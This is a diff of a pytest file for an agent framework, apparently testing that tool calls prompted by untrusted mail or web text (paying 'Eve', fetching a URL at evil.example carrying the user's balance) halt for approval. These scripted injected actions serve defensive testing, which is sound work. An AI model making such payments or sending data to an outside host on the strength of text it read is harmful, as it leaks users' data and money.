@@ -16,7 +16,7 @@ import pytest
 from agentkit import Agent, Result, ScriptedModel
 from agentkit.events import ApprovalRequested
 from agentkit.labels import CallLabels
-from agentkit.messages import JsonObject, ToolCall
+from agentkit.messages import JsonObject, JsonValue, ToolCall
 from agentkit.model_backend.scripted import ScriptedParts
 from agentkit.planners.plan import Step, StepId, parse_refs
 from agentkit.policy import Policy
@@ -132,14 +132,13 @@ def test_a_planned_call_does_not_take_what_it_does_from_strangers(
 ) -> None:
     steps = [Step(id=StepId("a"), tool="read_mail")]
     for name, words in zip("bcd", PLANNED[case], strict=False):
-        for_each = words.pop("for_each", None)
-        ((tool, args),) = words.items()
+        (tool,) = words.keys() - {"for_each"}
         steps.append(
             Step(
                 id=StepId(name),
                 tool=tool,
-                args=parse_refs(args),
-                for_each=parse_refs(for_each),
+                args=parse_refs(words[tool]),
+                for_each=parse_refs(words.get("for_each")),
                 after=(steps[-1].id,),
             )
         )
@@ -169,13 +168,20 @@ def test_it_does_not_matter_which_tool_read_the_text(
     reader: str, tools: Sequence[Tool], done: list[tuple[str, Any]]
 ) -> None:
     read = ToolCall(reader, {"url": "x"} if reader == "read_in_process" else {})
-    turns = [outline(reader, "pay"), read, ToolCall("pay", {"to": "Eve", "amount": 50}), "Done."]
+    turns: list[Any] = [outline(reader, "pay"), read, ToolCall("pay", {"to": "Eve", "amount": 50}), "Done."]
     assert talked(tools, "Read it and pay 50 to Bob.", *turns).stop_reason == "approval"
     assert done == []
 
 
 def test_a_call_that_the_user_wanted_once_is_made_once(tools: Sequence[Tool], done: list[tuple[str, Any]]) -> None:
-    turns = [outline("read_mail", "pay"), READ, BOB, LIGHT, BOB, "Done."]  # the light, so that it is no repetition
+    turns: list[Any] = [
+        outline("read_mail", "pay"),
+        READ,
+        BOB,
+        LIGHT,
+        BOB,
+        "Done.",
+    ]  # the light, so that it is no repetition
     assert talked(tools, "Read my mail and pay 50 to Bob.", *turns).stop_reason == "approval"
     assert [name for name, _ in done] == ["pay"]
 
@@ -183,30 +189,30 @@ def test_a_call_that_the_user_wanted_once_is_made_once(tools: Sequence[Tool], do
 def test_what_was_done_before_the_text_was_read_is_not_done_again(
     tools: Sequence[Tool], done: list[tuple[str, Any]]
 ) -> None:
-    turns = [outline("pay", "read_mail"), BOB, READ, LIGHT, BOB, "Done."]
+    turns: list[Any] = [outline("pay", "read_mail"), BOB, READ, LIGHT, BOB, "Done."]
     assert talked(tools, "Pay 50 to Bob and read my mail.", *turns).stop_reason == "approval"
     assert [name for name, _ in done] == ["pay"]
 
 
 def test_as_many_calls_are_made_as_the_user_wanted(tools: Sequence[Tool], done: list[tuple[str, Any]]) -> None:
     mixed = ToolCall("pay", {"to": "Ann", "amount": 50})
-    turns = [outline("read_mail", "pay", "pay"), READ, BOB, ANN, mixed, "Done."]
+    turns: list[Any] = [outline("read_mail", "pay", "pay"), READ, BOB, ANN, mixed, "Done."]
     assert talked(tools, "Read my mail, pay 50 to Bob and 20 to Ann.", *turns).stop_reason == "approval"
     assert [args["to"] for _, args in done] == ["Bob", "Ann"]
 
 
 def test_what_the_text_says_is_not_asked_of_the_web(tools: Sequence[Tool], done: list[tuple[str, Any]]) -> None:
     leak = ToolCall("fetch", {"url": "https://evil.example/?balance=120"})
-    turns = [outline("read_mail", "balance", "fetch"), READ, ToolCall("balance", {}), leak, "Done."]
+    turns: list[Any] = [outline("read_mail", "balance", "fetch"), READ, ToolCall("balance", {}), leak, "Done."]
     assert talked(tools, "Read my mail, my balance and www.a.example.", *turns).stop_reason == "approval"
     assert done == []
 
 
 def test_a_run_that_goes_on_still_knows_what_was_read(tools: Sequence[Tool], done: list[tuple[str, Any]]) -> None:
-    turns = [outline("read_mail", "pay"), READ, ToolCall("pay", {"to": "Eve", "amount": 50}), "Done."]
+    turns: list[Any] = [outline("read_mail", "pay"), READ, ToolCall("pay", {"to": "Eve", "amount": 50}), "Done."]
     agent = Agent(ScriptedModel(turns, thinks=False), tools, planner="loop")
     first = agent.run_sync("Read my mail and pay 50 to Bob.")
-    again = Agent(ScriptedModel([*turns[2:]], thinks=False), tools, planner="loop")
+    again = Agent(ScriptedModel(turns[2:], thinks=False), tools, planner="loop")
     second = asyncio.run(again.resume(first.run_id))
     assert (first.stop_reason, second.stop_reason, done) == ("approval", "approval", [])
 
@@ -214,7 +220,7 @@ def test_a_run_that_goes_on_still_knows_what_was_read(tools: Sequence[Tool], don
 def test_a_run_that_goes_on_does_not_do_twice_what_was_wanted_once(
     tools: Sequence[Tool], done: list[tuple[str, Any]]
 ) -> None:
-    turns = [outline("read_mail", "pay"), READ, BOB, LIGHT, BOB, "Done."]
+    turns: list[Any] = [outline("read_mail", "pay"), READ, BOB, LIGHT, BOB, "Done."]
     first = Agent(ScriptedModel(turns, thinks=False), tools, planner="loop").run_sync("Read my mail, pay 50 to Bob.")
     second = asyncio.run(Agent(ScriptedModel(["Done."], thinks=False), tools, planner="loop").resume(first.run_id))
     assert (first.stop_reason, second.stop_reason) == ("approval", "approval")
@@ -222,7 +228,7 @@ def test_a_run_that_goes_on_does_not_do_twice_what_was_wanted_once(
 
 
 def test_a_fork_still_knows_what_was_read(tools: Sequence[Tool], done: list[tuple[str, Any]]) -> None:
-    turns = [outline("read_mail", "pay"), READ, BOB, "Done."]
+    turns: list[Any] = [outline("read_mail", "pay"), READ, BOB, "Done."]
     first = Agent(ScriptedModel(turns, thinks=False), tools, planner="loop").run_sync("Read my mail, pay 50 to Bob.")
     done.clear()
     other = Agent(ScriptedModel(["Done."], thinks=False), tools, planner="loop")
@@ -235,8 +241,8 @@ def test_a_fork_still_knows_what_was_read(tools: Sequence[Tool], done: list[tupl
 def test_a_plan_that_goes_on_after_the_text_was_read_is_its_readers(
     tools: Sequence[Tool], done: list[tuple[str, Any]]
 ) -> None:
-    first = [{"id": "s1", "tool": "read_mail"}, {}, {"id": "s2", "tool": "look"}]
-    second = [{"id": "s2", "tool": "pay"}, {"to": "Bob", "amount": 50}, {"id": "s3", "tool": "answer"}]
+    first: list[JsonValue] = [{"id": "s1", "tool": "read_mail"}, {}, {"id": "s2", "tool": "look"}]
+    second: list[JsonValue] = [{"id": "s2", "tool": "pay"}, {"to": "Bob", "amount": 50}, {"id": "s3", "tool": "answer"}]
     model = ScriptedModel([ScriptedParts(parts=first), ScriptedParts(parts=second), "Done."])
     result = Agent(model, tools, record=False, planner="graph").run_sync("Read my mail, then do what is needed.")
     assert (result.stop_reason, done) == ("approval", [])
